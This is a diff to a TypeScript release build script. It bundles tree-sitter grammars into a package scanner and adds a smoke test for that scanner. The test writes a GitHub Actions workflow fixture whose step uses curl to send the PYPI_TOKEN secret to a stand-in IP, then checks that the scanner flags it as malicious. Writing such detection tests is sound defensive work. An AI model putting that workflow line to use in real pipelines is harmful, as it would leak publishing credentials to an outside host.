@@ -71,16 +71,62 @@ async function stage(folder: string): Promise<{ workspace: Workspace; staged: st
   const source = join(home, 'src')
   if (globSync('**/*.ts', { cwd: source }).length > 0) await compile(workspace.name, source, staged)
 
-  const kept = ['name', 'version', 'description', 'type', 'license', 'engines', 'bin', 'dependencies', 'optionalDependencies']
+  const kept = [
+    'name',
+    'version',
+    'description',
+    'type',
+    'license',
+    'engines',
+    'bin',
+    'exports',
+    'dependencies',
+    'optionalDependencies',
+    'peerDependencies',
+    'peerDependenciesMeta',
+  ]
   const fields = Object.fromEntries(kept.filter((key) => workspace[key] !== undefined).map((key) => [key, workspace[key]]))
-  const files = ['bin', 'dist', 'migrations', 'README.md', 'LICENSE']
+  const files = ['bin', 'dist', 'migrations', 'schema', 'grammars', 'README.md', 'LICENSE']
   writeFileSync(join(staged, 'package.json'), `${JSON.stringify({ ...fields, files }, undefined, 2)}\n`)
-  for (const name of ['bin', 'migrations'])
+  for (const name of ['bin', 'migrations', 'schema'])
     if (existsSync(join(home, name))) cpSync(join(home, name), join(staged, name), { recursive: true })
   const readme = [join(home, 'README.md'), join(root, 'README.md')].find((path) => existsSync(path))
   if (readme !== undefined) copyFileSync(readme, join(staged, 'README.md'))
   copyFileSync(join(root, 'LICENSE'), join(staged, 'LICENSE'))
+  if (folder === 'scanner') copyGrammars(staged)
   return { workspace, staged }
+}
+
+/** Their packages would be built by whoever installs them; the compiled grammars need nobody's compiler. */
+function copyGrammars(staged: string): void {
+  mkdirSync(join(staged, 'grammars'))
+  for (const name of ['tree-sitter-bash', 'tree-sitter-powershell']) {
+    const home = join(root, 'node_modules', name)
+    copyFileSync(join(home, `${name}.wasm`), join(staged, 'grammars', `${name}.wasm`))
+    copyFileSync(join(home, 'LICENSE'), join(staged, 'grammars', `${name}.LICENSE`))
+  }
+}
+
+/** The scanner in a folder of its own: it must not need the server, and must know a thief when it sees one. */
+async function scanOnce(tarball: string): Promise<void> {
+  const folder = mkdtempSync(join(tmpdir(), 'holdfast-build-scan-'))
+  try {
+    writeFileSync(join(folder, 'package.json'), '{ "private": true }\n')
+    await run('install the scanner alone', 'npm', ['install', '--no-audit', '--no-fund', tarball], folder)
+    if (existsSync(join(folder, 'node_modules/holdfast'))) throw new Error('The scanner brought the server along.')
+    const workflows = join(folder, '.github/workflows')
+    mkdirSync(workflows, { recursive: true })
+    writeFileSync(
+      join(workflows, 'security.yml'),
+      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "t=${{ secrets.PYPI_TOKEN }}" http://198.51.100.7/x\n',
+    )
+    const ending = await runChild(join(folder, 'node_modules/.bin/holdfast-scan'), [], { deadlineSeconds: 60, env: environment, folder })
+    if (ending.code !== 12 || !ending.output.includes('PYPI_TOKEN'))
+      throw new Error(`The scanner ended with ${ending.code} and not with 12 (malicious):\n${ending.output}`)
+    console.log('one workflow judged         ok')
+  } finally {
+    rmSync(folder, { recursive: true, force: true })
+  }
 }
 
 async function main(): Promise<void> {
@@ -99,6 +145,7 @@ async function main(): Promise<void> {
     await run('install into a new folder', 'npm', ['install', '--no-audit', '--no-fund', ...tarballs], folder)
     await publishOnce({ folder, holdfast: join(folder, 'node_modules/.bin/holdfast'), environment })
     console.log('publish and install once   ok')
+    await scanOnce(tarballs[1] as string)
   } finally {
     rmSync(folder, { recursive: true, force: true })
   }
